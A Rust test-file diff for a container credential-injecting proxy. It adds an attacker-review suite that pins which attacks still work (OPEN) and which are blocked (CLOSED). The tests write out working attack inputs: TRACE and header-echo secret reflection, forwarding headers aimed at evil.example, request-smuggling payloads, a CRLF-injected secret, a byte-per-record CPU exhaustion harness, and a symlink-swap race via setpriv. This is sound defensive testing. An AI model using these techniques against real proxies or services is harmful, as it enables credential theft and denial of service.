@@ -138,6 +138,9 @@ struct Lab {
     git_file: PathBuf,
     pki: UpstreamPki,
     creds: Arc<Credentials>,
+    /// The proxy and the container it serves, for a second container.
+    proxy_handle: Arc<Proxy>,
+    container: Arc<Container>,
     _dir: tempfile::TempDir,
 }
 
@@ -205,7 +208,7 @@ async fn lab() -> Lab {
     });
     let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
     let addr = listener.local_addr().unwrap();
-    tokio::spawn(proxy.serve(listener, container));
+    tokio::spawn(proxy.clone().serve(listener, container.clone()));
     Lab {
         proxy: addr,
         seen,
@@ -214,6 +217,8 @@ async fn lab() -> Lab {
         git_file,
         pki,
         creds,
+        proxy_handle: proxy,
+        container,
         _dir: dir,
     }
 }
@@ -540,4 +545,352 @@ async fn the_leaf_verifies_and_the_ca_vouches_for_no_other_name() {
     verify(&hand_minted(ca, "git.example"), "git.example").expect("a bound name");
     let err = verify(&hand_minted(ca, "evil.example"), "evil.example").unwrap_err();
     assert!(format!("{err:?}").contains("NameConstraint"), "{err:?}");
+}
+
+// ---------------------------------------------------------------------------
+// An attacker's review: the container sends what it likes through its proxy.
+// Each test is named for its door; OPEN ones pin that the attack works today.
+
+/// OPEN. TRACE on a bound host: the daemon swaps the secret in and relays
+/// the upstream's answer untouched. An upstream that implements TRACE (as
+/// Apache httpd does unless `TraceEnable off`; this test upstream echoes
+/// every request) hands the container the real secret in the body.
+#[tokio::test]
+async fn trace_to_a_bound_host_reflects_the_secret_to_the_container() {
+    assert!(is_root(), "needs root: the secret files must be root's");
+    let lab = lab().await;
+    let resp = lab
+        .ask(
+            "api.example",
+            &format!("TRACE / HTTP/1.1\r\nHost: api.example\r\nx-api-key: {KEY_P}\r\n\r\n"),
+        )
+        .await;
+    assert!(resp.starts_with("HTTP/1.1 200"), "{resp}");
+    assert!(body(&resp).contains(SECRET), "the container read: {resp}");
+    let git = basic_encode("x-access-token", GIT_P);
+    let resp = lab
+        .ask(
+            "git.example",
+            &format!("TRACE / HTTP/1.1\r\nHost: git.example\r\nAuthorization: Basic {git}\r\n\r\n"),
+        )
+        .await;
+    let real = basic_encode("x-access-token", GIT_SECRET);
+    assert!(body(&resp).contains(&real), "the container read: {resp}");
+}
+
+/// OPEN (by design today). The response is never scanned: any bound host
+/// that reflects a request header (an echo or debug endpoint, an error
+/// page quoting the request, a request log the account can read) gives
+/// the container the secret, on a GET to a path of its choosing.
+#[tokio::test]
+async fn a_bound_host_that_echoes_headers_hands_the_secret_back() {
+    assert!(is_root(), "needs root: the secret files must be root's");
+    let lab = lab().await;
+    let resp = lab
+        .ask(
+            "api.example",
+            &format!(
+                "GET /anything/echo?show=headers HTTP/1.1\r\nHost: api.example\r\nx-api-key: {KEY_P}\r\n\r\n"
+            ),
+        )
+        .await;
+    assert!(body(&resp).contains(SECRET), "{resp}");
+    // Still logged as a plain injection: nothing says it came back.
+    let lines = lab.log_lines(1).await;
+    assert_eq!(lines[0]["kind"], "inject", "{}", lines[0]);
+    assert_eq!(lines[0]["decision"], "allow", "{}", lines[0]);
+}
+
+/// OPEN (defence in depth). Front-end routing headers go upstream beside
+/// the secret; a bound host whose front end routes by X-Forwarded-Host or
+/// Forwarded sends the secret where the container said.
+#[tokio::test]
+async fn routing_headers_reach_the_upstream_beside_the_secret() {
+    assert!(is_root(), "needs root: the secret files must be root's");
+    let lab = lab().await;
+    let resp = lab
+        .ask(
+            "api.example",
+            &format!(
+                "GET / HTTP/1.1\r\nHost: api.example\r\nX-Forwarded-Host: evil.example\r\nForwarded: host=evil.example\r\nx-api-key: {KEY_P}\r\n\r\n"
+            ),
+        )
+        .await;
+    let saw = &lab.upstream_saw()[0];
+    assert!(saw.contains("X-Forwarded-Host: evil.example\r\n"), "{saw}");
+    assert!(saw.contains("Forwarded: host=evil.example\r\n"), "{saw}");
+    assert!(saw.contains(&format!("x-api-key: {SECRET}\r\n")), "{resp}");
+}
+
+/// A second container on the same daemon: its own placeholder and CA, the
+/// same secret file and policy.
+async fn second_container(lab: &Lab, placeholder: &str) -> (SocketAddr, Arc<Credentials>) {
+    let mut bindings = lab.creds.bindings.clone();
+    bindings[0].placeholder = placeholder.into();
+    let ca = Ca::generate(&["api.example".into(), "git.example".into()]).unwrap();
+    let creds = Arc::new(Credentials::new(bindings, ca));
+    let container = Arc::new(Container {
+        id: "cred-test-2".into(),
+        network: lab.container.network.clone(),
+        credentials: Some(creds.clone()),
+    });
+    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
+    let addr = listener.local_addr().unwrap();
+    tokio::spawn(lab.proxy_handle.clone().serve(listener, container));
+    (addr, creds)
+}
+
+/// CLOSED. Container B sends container A's placeholder (learnt from a
+/// shared volume, a log, `docker exec A env`) through its own proxy: B's
+/// judge knows only B's placeholders, so A's goes upstream as it is, and
+/// A's CA is no use to B's clients.
+#[tokio::test]
+async fn another_containers_placeholder_gets_no_secret() {
+    assert!(is_root(), "needs root: the secret files must be root's");
+    let lab = lab().await;
+    let b_placeholder = "sk-ant-PLACEHOLDERzzzzzzzzzzzzzzzz";
+    let (b_proxy, b_creds) = second_container(&lab, b_placeholder).await;
+    let b = Lab {
+        proxy: b_proxy,
+        seen: lab.seen.clone(),
+        log: lab.log.clone(),
+        key_file: lab.key_file.clone(),
+        git_file: lab.git_file.clone(),
+        pki: upstream_pki(),
+        creds: b_creds,
+        proxy_handle: lab.proxy_handle.clone(),
+        container: lab.container.clone(),
+        _dir: tempfile::tempdir().unwrap(),
+    };
+    let resp = b
+        .ask(
+            "api.example",
+            &format!("GET / HTTP/1.1\r\nHost: api.example\r\nx-api-key: {KEY_P}\r\n\r\n"),
+        )
+        .await;
+    assert!(resp.starts_with("HTTP/1.1 200"), "{resp}");
+    let saw = &lab.upstream_saw()[0];
+    assert!(saw.contains(&format!("x-api-key: {KEY_P}\r\n")), "{saw}");
+    assert!(!saw.contains(SECRET), "{saw}");
+    // A's CA does not verify B's leaf.
+    assert!(b
+        .tls("api.example", lab.creds.ca.cert_pem(), &[b"http/1.1"])
+        .await
+        .is_err());
+    // And B's own placeholder works through B.
+    let resp = b
+        .ask(
+            "api.example",
+            &format!("GET / HTTP/1.1\r\nHost: api.example\r\nx-api-key: {b_placeholder}\r\n\r\n"),
+        )
+        .await;
+    assert!(body(&resp).contains(SECRET), "{resp}");
+}
+
+/// CLOSED. Requests smuggled after the judged one (after a chunked body,
+/// after an HTTP/1.0 request, after `Connection: close`, after a body
+/// whose Content-Length covers less than was sent) never reach upstream.
+#[tokio::test]
+async fn requests_smuggled_after_the_judged_one_never_reach_upstream() {
+    assert!(is_root(), "needs root: the secret files must be root's");
+    let lab = lab().await;
+    let second =
+        format!("GET /smuggled HTTP/1.1\r\nHost: api.example\r\nx-api-key: {KEY_P}\r\n\r\n");
+    let heads = [
+        format!(
+            "POST /a HTTP/1.1\r\nHost: api.example\r\nx-api-key: {KEY_P}\r\nTransfer-Encoding: chunked\r\n\r\n4\r\nbody\r\n0\r\n\r\n{second}"
+        ),
+        format!("GET /b HTTP/1.0\r\nHost: api.example\r\nx-api-key: {KEY_P}\r\n\r\n{second}"),
+        format!(
+            "GET /c HTTP/1.1\r\nHost: api.example\r\nx-api-key: {KEY_P}\r\nConnection: close\r\n\r\n{second}"
+        ),
+        format!(
+            "POST /d HTTP/1.1\r\nHost: api.example\r\nx-api-key: {KEY_P}\r\nContent-Length: 2\r\n\r\nhi{second}"
+        ),
+        // A chunk extension and a trailer, then the smuggled request.
+        format!(
+            "POST /e HTTP/1.1\r\nHost: api.example\r\nx-api-key: {KEY_P}\r\nTransfer-Encoding: chunked\r\n\r\n4;x=\"a\"\r\nbody\r\n0\r\nX-T: 1\r\n\r\n{second}"
+        ),
+    ];
+    for head in &heads {
+        let resp = lab.ask("api.example", head).await;
+        assert!(resp.starts_with("HTTP/1.1 200"), "{resp}");
+    }
+    let all = lab.upstream_saw();
+    assert_eq!(all.len(), heads.len());
+    for conn in &all {
+        assert!(!conn.contains("/smuggled"), "{conn}");
+        assert!(!conn.contains(KEY_P), "{conn}");
+    }
+}
+
+/// CLOSED. A secret file rotated to a value that is no header value
+/// (a newline and a header after it) is refused at the request, and the
+/// refusal (the 502's body and the log line) quotes none of it.
+#[tokio::test]
+async fn a_rotated_secret_that_is_no_header_value_is_refused_unquoted() {
+    assert!(is_root(), "needs root: the secret files must be root's");
+    let lab = lab().await;
+    write_secret(&lab.key_file, "sk-ant-ROTATED-2222\r\nX-Injected: evil");
+    let req = format!("GET / HTTP/1.1\r\nHost: api.example\r\nx-api-key: {KEY_P}\r\n\r\n");
+    let resp = lab.ask("api.example", &req).await;
+    assert!(resp.starts_with("HTTP/1.1 502"), "{resp}");
+    assert!(
+        !resp.contains("ROTATED") && !resp.contains("X-Injected"),
+        "{resp}"
+    );
+    assert!(lab.upstream_saw().iter().all(|c| !c.contains("GET ")));
+    let _ = lab.log_lines(1).await;
+    let text = std::fs::read_to_string(&lab.log).unwrap();
+    assert!(
+        !text.contains("ROTATED") && !text.contains("X-Injected"),
+        "{text}"
+    );
+}
+
+/// CPU seconds this process (`/proc/self/stat`) or this thread
+/// (`/proc/thread-self/stat`) has used.
+fn cpu_of(stat: &str) -> f64 {
+    let text = std::fs::read_to_string(stat).unwrap();
+    let after = &text[text.rfind(')').unwrap() + 2..];
+    let f: Vec<u64> = after
+        .split(' ')
+        .skip(11)
+        .take(2)
+        .map(|v| v.parse().unwrap())
+        .collect();
+    (f[0] + f[1]) as f64 / 100.0
+}
+
+/// Sends one request head of `len` header bytes inside TLS to the
+/// terminated `api.example`, one byte per TLS record (paced so that each
+/// record is read alone) or all at once; returns the CPU the proxy spent
+/// on it (the process's, minus this client thread's).
+fn head_cpu(proxy: SocketAddr, ca_pem: String, len: usize, bytewise: bool) -> f64 {
+    use std::io::{Read, Write};
+    let mut s = std::net::TcpStream::connect(proxy).unwrap();
+    s.set_nodelay(true).unwrap();
+    s.write_all(b"CONNECT api.example:443 HTTP/1.1\r\nHost: api.example:443\r\n\r\n")
+        .unwrap();
+    let mut ok = [0u8; 39];
+    s.read_exact(&mut ok).unwrap();
+    let conn = rustls::ClientConnection::new(
+        client_config(&ca_pem, &[b"http/1.1"]),
+        ServerName::try_from("api.example").unwrap(),
+    )
+    .unwrap();
+    let mut tls = rustls::StreamOwned::new(conn, s);
+    let head = format!(
+        "GET / HTTP/1.1\r\nHost: api.example\r\nX: {}\r\n",
+        "a".repeat(len)
+    );
+    tls.write_all(b"G").unwrap(); // the handshake, before counting
+    tls.flush().unwrap();
+    std::thread::sleep(Duration::from_millis(100));
+    let (process, thread) = (cpu_of("/proc/self/stat"), cpu_of("/proc/thread-self/stat"));
+    if bytewise {
+        for b in &head.as_bytes()[1..] {
+            tls.write_all(std::slice::from_ref(b)).unwrap();
+            tls.flush().unwrap();
+            std::thread::sleep(Duration::from_micros(150));
+        }
+    } else {
+        tls.write_all(&head.as_bytes()[1..]).unwrap();
+        tls.flush().unwrap();
+    }
+    // Let the proxy catch up with what it was sent.
+    std::thread::sleep(Duration::from_millis(300));
+    let spent = (cpu_of("/proc/self/stat") - process) - (cpu_of("/proc/thread-self/stat") - thread);
+    tls.write_all(b"\r\n").unwrap();
+    let mut sink = Vec::new();
+    let _ = tls.read_to_end(&mut sink);
+    spent
+}
+
+/// OPEN (DoS). A head the size of the cap sent a byte per TLS record costs
+/// the proxy far more CPU than the same head in one record: each record is
+/// decrypted and woken for alone, and the whole buffer is judged again
+/// from its start after each one (quadratic: see vibe-policy's
+/// `a_head_sent_a_byte_at_a_time_is_rescanned_from_its_start`). 512 such
+/// connections per container (the connection limit), each within the
+/// header timeout, keep the shared daemon's cores busy for every other
+/// container.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_head_a_byte_per_record_costs_the_daemon_far_more_cpu() {
+    assert!(is_root(), "needs root: the secret files must be root's");
+    let lab = lab().await;
+    let (proxy, pem) = (lab.proxy, lab.creds.ca.cert_pem().to_string());
+    let len = 30 * 1024;
+    let whole = {
+        let pem = pem.clone();
+        tokio::task::spawn_blocking(move || head_cpu(proxy, pem, len, false))
+            .await
+            .unwrap()
+    };
+    let bytewise = tokio::task::spawn_blocking(move || head_cpu(proxy, pem, len, true))
+        .await
+        .unwrap();
+    eprintln!(
+        "proxy CPU for a 30 KiB head: in one write {whole:.2} s, a byte per record {bytewise:.2} s"
+    );
+    assert!(
+        bytewise > 0.2 && bytewise > 20.0 * whole.max(0.01),
+        "{whole} s then {bytewise} s"
+    );
+}
+
+/// OPEN (low; an admin's layout). The secret file is opened without
+/// following a symlink in its last component and checked on the fd, but
+/// the directories above it are not judged: a secret kept in a directory a
+/// user owns (`/home/alice/secrets/github`) is accepted by create, by
+/// `policy check` and by the daemon, and that user can swap the directory
+/// for a symlink between two requests, so the daemon reads and sends a
+/// root-only file of that name from anywhere else.
+#[test]
+fn a_user_owned_directory_above_the_secret_lets_that_user_swap_it() {
+    use std::os::unix::fs::{chown, PermissionsExt};
+    assert!(is_root(), "needs root: the secret files must be root's");
+    let dir = tempfile::tempdir().unwrap();
+    std::fs::set_permissions(dir.path(), std::fs::Permissions::from_mode(0o755)).unwrap();
+    let home = dir.path().join("alice");
+    let secrets = home.join("secrets");
+    std::fs::create_dir_all(&secrets).unwrap();
+    chown(&home, Some(1000), Some(1000)).unwrap();
+    chown(&secrets, Some(1000), Some(1000)).unwrap();
+    let source = secrets.join("github");
+    write_secret(&source, "ghp_THE-BOUND-SECRET");
+    assert_eq!(
+        vibe_hooks::egress::proxy::read_secret(&source).unwrap(),
+        "ghp_THE-BOUND-SECRET"
+    );
+    // Another root-only file of the same name elsewhere.
+    let other = dir.path().join("root-only");
+    std::fs::create_dir(&other).unwrap();
+    std::fs::set_permissions(&other, std::fs::Permissions::from_mode(0o700)).unwrap();
+    write_secret(&other.join("github"), "ROOT-ONLY-TOKEN-OF-ANOTHER-SERVICE");
+    // Alice, as herself: the directory becomes a symlink.
+    let swap = format!(
+        "mv {s} {s}.old && ln -s {o} {s}",
+        s = secrets.display(),
+        o = other.display()
+    );
+    let status = std::process::Command::new("setpriv")
+        .args([
+            "--reuid=1000",
+            "--regid=1000",
+            "--clear-groups",
+            "sh",
+            "-c",
+            &swap,
+        ])
+        .status()
+        .unwrap();
+    assert!(
+        status.success(),
+        "uid 1000 could not swap its own directory"
+    );
+    assert_eq!(
+        vibe_hooks::egress::proxy::read_secret(&source).unwrap(),
+        "ROOT-ONLY-TOKEN-OF-ANOTHER-SERVICE"
+    );
 }
